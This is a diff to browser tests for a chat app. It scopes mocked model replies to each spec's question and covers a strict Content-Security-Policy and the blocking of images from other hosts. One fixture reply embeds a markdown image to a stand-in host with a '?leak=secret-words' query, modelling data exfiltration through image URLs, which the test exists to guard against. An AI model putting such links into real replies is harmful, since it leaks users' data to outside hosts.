@@ -25,7 +25,8 @@ test('the login and chat pages run under the strict Content-Security-Policy with
 
   await signUp('csp');
   await page.goto('/chat/new');
-  await stackControl.enqueue('openai', { chunks: ['Math $$e^{i\\pi}+1=0$$ and code:\n\n```ts\nconst a = 1;\n```\n'] });
+  // Taken only by this spec's question: specs running beside it chat on OpenAI too.
+  await stackControl.enqueue('openai', { mentioning: 'Show me math and code', chunks: ['Math $$e^{i\\pi}+1=0$$ and code:\n\n```ts\nconst a = 1;\n```\n'] });
   await page.getByTestId('chat-input').fill('Show me math and code');
   await expect(page.getByTestId('send-button')).toBeEnabled();
   await page.getByTestId('chat-input').press('Enter');
@@ -43,6 +44,7 @@ test('an image from another host waits for a click; our own images load at once'
   await signUp('images');
   await page.goto('/chat/new');
   await stackControl.enqueue('openai', {
+    mentioning: 'Show me images',
     chunks: ['Here: ![a cat](https://images.example/cat.png?leak=secret-words) and ![ours](/favicon.svg)\n'],
   });
   await page.getByTestId('chat-input').fill('Show me images');
